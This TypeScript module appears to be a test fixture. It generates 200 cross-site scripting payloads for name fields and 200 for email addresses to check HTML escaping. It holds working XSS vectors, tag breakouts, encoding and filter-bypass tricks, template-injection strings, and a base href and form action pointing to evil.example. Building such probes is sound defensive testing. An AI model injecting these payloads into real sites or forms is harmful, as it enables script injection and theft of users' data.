// Names and addresses that are programs: 200 of each, for every context of HTML in which a page or mail may put them.

/** How what surrounds a name is left, if it is not escaped. */
const CLOSINGS = ['', '">', "'>", '</title>', '-->', '</p>', '</a>', '</option></select>', '</style>', '</textarea>']

/** What then runs, or looks and loads as it likes; each is short enough for every kind of name. */
const PROGRAMS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)">',
  '<iframe src=javascript:parent.alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<video><source onerror=alert(1)>',
  '<audio src onerror=alert(1)>',
  '<b onmouseover=alert(1)>x</b>',
  '<style>*{display:none}</style>',
  '<base href=//evil.example>',
  '<form action=//evil.example><button>x',
  '<object data=javascript:alert(1)>',
]

/** What needs no tag of its own. */
const ATTRIBUTES = [
  '" onfocus=alert(1) autofocus x="',
  "' onfocus=alert(1) autofocus x='",
  '` onfocus=alert(1) autofocus x=`',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  ' onclick=alert(1) ',
  '" style="position:fixed;inset:0',
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
]

/** What becomes a program by being read once more than was meant. */
const READ_TWICE = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
  '&amp;lt;script&amp;gt;alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '＜script＞alert(1)＜/script＞',
  '\u0024{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[[alert(1)]]',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script/x>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<svg/onload=alert(1)//',
  '<!--><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml?><script>alert(1)</script>',
  '<math><mtext><mglyph><style></math><img src onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  "';alert(1)//",
  '";alert(1)//',
  '\\";alert(1)//',
  '</main></body></html><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
]

const LONGEST_NAME = 64

/** Different names, in a fixed order; wherever a name is checked, they are names. */
export const NAME_PAYLOADS: readonly string[] = first(200, [
  ...READ_TWICE,
  ...ATTRIBUTES,
  ...CLOSINGS.flatMap((closing) => PROGRAMS.map((program) => closing + program)),
])

const QUOTES = ["'", '`', "'/", '`/', "'{"]
const HANDLERS = ['onfocus', 'onclick', 'onerror', 'onload', 'onmouseover', 'ontoggle', 'style', 'href', 'action', 'id']

/** Different addresses, as far as an address can be a program: it has no angles, brackets or blanks. */
export const ADDRESS_PAYLOADS: readonly string[] = first(
  200,
  QUOTES.flatMap((quote) =>
    HANDLERS.flatMap((handler) =>
      ['autofocus=', 'x=', '{{x}}', '#'].map((end) => `${quote}/${handler}=alert\`1\`/${end}${quote[0]}@evil.example`),
    ),
  ),
)

function first(count: number, all: readonly string[]): readonly string[] {
  const different = [...new Set(all)].filter((text) => text.length <= LONGEST_NAME).slice(0, count)
  if (different.length < count) throw new Error(`There are ${different.length} payloads, not ${count}.`)
  return different
}
